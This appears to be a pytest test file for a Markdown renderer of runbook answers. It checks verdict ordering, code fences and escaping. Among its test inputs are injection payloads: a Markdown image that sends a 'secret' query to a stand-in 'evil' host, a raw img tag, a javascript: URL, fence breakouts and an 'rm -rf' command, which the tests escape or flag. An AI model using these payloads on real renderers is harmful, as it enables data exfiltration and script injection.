"""Answers as Markdown: the verdict first, exact commands, and no document that takes over the page."""

import pytest

from api.answer_markdown import answer_markdown, answer_pieces, code, fenced, place_markdown, prose
from api.answering.answer import Outcome, StatementKind
from api.schemas.answers import Answer, Citation, Confidence, Statement
from ingest.knowledge.documents import DocumentKind, DocumentStatus


def _citation(number: int = 1, *, url: str | None = None, quote: str = "q") -> Citation:
    return Citation(
        number=number,
        document_id=f"d{number}",
        passage_id=f"p{number}",
        source="docs",
        path=f"runbooks/{number}.md",
        kind=DocumentKind.RUNBOOK,
        status=DocumentStatus.CURRENT,
        title="Disk full",
        heading_path=["Disk full", "Mitigation"],
        line_start=3,
        line_end=4,
        char_start=0,
        char_end=1,
        quote=quote,
        url=url,
        revision="1",
        updated_at=None,
    )


def _statement(text: str, kind: StatementKind = StatementKind.SENTENCE, **more: object) -> Statement:
    return Statement.model_validate({"text": text, "kind": kind, "citations": [_citation()], **more})


def _answer(*statements: Statement, outcome: Outcome = Outcome.ANSWERED, **more: object) -> Answer:
    fields: dict[str, object] = {
        "id": "a1",
        "question": "q",
        "outcome": outcome,
        "reason": "the runbook says so",
        "statements": list(statements),
        "confidence": Confidence(words="high"),
        "missing": [],
        "nearest": [],
        "warnings": [],
        "generation": 1,
        "took_ms": 1.0,
    }
    return Answer.model_validate(fields | more)


def test_the_verdict_stands_first_and_the_sources_after_the_statements() -> None:
    text = answer_markdown(_answer(_statement("Drop the idle slot."), warnings=["it is old"], missing=["the port"]))

    order = ["**Answered:**", "**Warning:** it is old", "Drop the idle slot. [1]", "the port", "- [1] Disk full > Mit"]
    assert [text.find(part) for part in order] == sorted(text.find(part) for part in order)
    assert text.startswith("**Answered:** the runbook says so. Confidence: high.\n\n")
    assert "`docs/runbooks/1.md:3-4`" in text


def test_an_abstention_is_told_in_words() -> None:
    text = answer_markdown(_answer(outcome=Outcome.ABSTAINED, missing=["`FooBarDown` stands in no document"]))

    assert text.startswith("**Not answered:**")
    assert "`FooBarDown` stands in no document" in text


def test_the_pieces_make_the_whole() -> None:
    answer = _answer(_statement("One."), _statement("two", StatementKind.STEP, number=2))

    assert "".join(answer_pieces(answer)) == answer_markdown(answer)


def test_steps_keep_their_numbers_and_commands_their_lines() -> None:
    text = answer_markdown(
        _answer(
            _statement("See which directory is large:", StatementKind.STEP, number=4),
            _statement("du -sh *\n  sort -h", StatementKind.COMMAND, depth=1, language="sh"),
            _statement("Page someone.", StatementKind.STEP, number=5),
        )
    )

    assert "4. See which directory is large: [1]\n\n   ```sh\n   du -sh *\n     sort -h\n   ```\n\n   [1]" in text
    assert "\n\n5. Page someone. [1]" in text


def test_what_destroys_is_marked_before_it() -> None:
    text = answer_markdown(_answer(_statement("rm -rf /x", StatementKind.COMMAND, destructive="removes files")))

    assert text.index("**DESTRUCTIVE: removes files**") < text.index("rm -rf /x")


def test_a_command_without_a_step_before_it_is_not_set_in() -> None:
    text = answer_markdown(_answer(_statement("See:"), _statement("df -h", StatementKind.COMMAND, depth=2)))

    assert "See: [1]\n\n```\ndf -h\n```\n\n[1]" in text


def test_no_two_empty_lines_follow_each_other() -> None:
    answer = _answer(_statement("One."), warnings=["w", "v"], missing=["m"])
    empty = _answer(outcome=Outcome.ABSTAINED, missing=["m"])

    assert "\n\n\n" not in answer_markdown(answer) + answer_markdown(empty)


def test_a_command_cannot_leave_its_block() -> None:
    block = fenced("echo\n```\n# I am a heading", "sh\nx")

    assert block == "````shx\necho\n```\n# I am a heading\n````"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](http://evil/?q=secret)", r"!\[x](http://evil/?q=secret)"),
        ("<img src=http://evil>", r"\<img src=http://evil>"),
        ("use `<name>` and <b>", r"use `<name>` and \<b>"),
        ("# heading", r"\# heading"),
        ("> quoted", r"\> quoted"),
        ("``` fence", r"\``` fence"),
        ("two\n\n# lines", "two # lines"),
        ("bell\x07 and \u202eturned", "bell\N{REPLACEMENT CHARACTER} and \N{REPLACEMENT CHARACTER}turned"),
    ],
)
def test_words_of_a_document_stay_words(said: str, shown: str) -> None:
    assert prose(said) == shown


def test_a_code_span_cannot_be_left() -> None:
    assert code("a`b``c") == "```a`b``c```"
    assert code("`x`") == "`` `x` ``"


@pytest.mark.parametrize(
    ("url", "linked"),
    [
        ("https://wiki/a b(c)<d>", "[Disk full > Mitigation](<https://wiki/a%20b(c)%3Cd%3E>)"),
        ("javascript:alert(1)", "Disk full > Mitigation —"),
        (None, "Disk full > Mitigation —"),
    ],
)
def test_only_web_addresses_become_links(url: str | None, linked: str) -> None:
    assert place_markdown(_citation(url=url)).startswith(linked)


def test_a_table_row_names_its_columns() -> None:
    text = answer_markdown(_answer(_statement("| a | 20 |", StatementKind.TABLE_ROW, header="| Key | Value |")))

    assert "- Key: a; Value: 20 [1]" in text
